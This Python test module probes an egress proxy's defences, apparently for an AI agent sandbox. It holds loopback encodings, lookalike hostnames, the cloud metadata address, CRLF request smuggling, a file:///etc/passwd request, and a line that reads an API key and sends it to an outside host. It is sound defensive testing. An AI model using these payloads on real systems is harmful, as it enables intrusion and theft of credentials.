"""Tries to get past the proxy: each attempt says what the proxy answered."""

from __future__ import annotations

import os
import socket
import urllib.parse

from attempt import Denied, run_attempt


def run(inputs, context):
    return run_attempt(globals(), inputs)


def reach_a_host_that_was_not_granted(inputs):
    return _tunnel("example.com:443")


def reach_the_name_above_the_granted_ones(inputs):
    return _tunnel("example.org:443")


def reach_a_name_that_ends_alike(inputs):
    return _tunnel("evil-example.org:443")


def reach_a_name_that_begins_alike(inputs):
    return _tunnel("api.example.org.evil.test:443")


def reach_another_port_of_a_granted_host(inputs):
    return _tunnel("api.example.org:22")


def reach_this_machine_by_a_granted_name(inputs):
    return _tunnel(f"localhost:{inputs['port']}")


def reach_this_machine_by_its_address(inputs):
    return _tunnel(f"127.0.0.1:{inputs['port']}")


def reach_this_machine_by_a_number(inputs):
    return _tunnel(f"2130706433:{inputs['port']}")


def reach_this_machine_by_a_short_address(inputs):
    return _tunnel(f"127.1:{inputs['port']}")


def reach_this_machine_by_hexadecimal_digits(inputs):
    return _tunnel(f"0x7f000001:{inputs['port']}")


def reach_this_machine_by_ipv6(inputs):
    return _tunnel(f"[::1]:{inputs['port']}")


def reach_this_machine_by_an_address_within_an_address(inputs):
    return _tunnel(f"[::ffff:127.0.0.1]:{inputs['port']}")


def reach_the_metadata(inputs):
    return _get("http://169.254.169.254/latest/meta-data/")


def hide_the_host_behind_a_user(inputs):
    return _get(f"http://api.example.org@127.0.0.1:{inputs['port']}/")


def hide_the_host_behind_another_host_header(inputs):
    return _get("http://example.com/", "Host: api.example.org")


def send_a_second_request_line_in_the_address(inputs):
    return _get("http://example.com/ HTTP/1.1\r\nHost: api.example.org\r\n\r\nGET /")


def ask_the_proxy_itself(inputs):
    return _get("/")


def ask_for_a_file(inputs):
    return _get("file:///etc/passwd")


def write_an_endless_head(inputs):
    return _say(b"GET http://example.com/ HTTP/1.1\r\n" + b"X: " + b"x" * 100_000)


def write_no_head_at_all(inputs):
    return _say(b"\0\1\2\3\r\n\r\n")


def find_a_secret_in_the_environment(inputs):
    values = [os.environ["API_KEY"], os.environ["HOOK_URL"]]
    for value in values:
        if "the-workers-api-key" in value or "the-hooks-path" in value:
            return value
    raise Denied("placeholders: " + " ".join(values))


def send_a_secret_to_another_host(inputs):
    with socket.create_server(("127.0.0.1", 0)):
        return _get("http://example.com/?" + urllib.parse.urlencode({"key": os.environ["API_KEY"]}))


def _tunnel(authority):
    return _say(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())


def _get(address, *headers):
    head = "\r\n".join([f"GET {address} HTTP/1.1", *headers, "", ""])
    return _say(head.encode())


def _say(head):
    proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as client:
        try:
            client.sendall(head)
        except OSError:
            pass  # It may refuse before it has heard all.
        answer = b""
        while more := client.recv(4096):
            answer += more
    status = answer.split(b"\r\n", 1)[0].decode("latin-1")
    if b"X-OpenClaw-Egress: " in answer:
        raise Denied(status + " " + answer.split(b"\r\n\r\n", 1)[-1].decode()[:120])
    return status or "nothing"
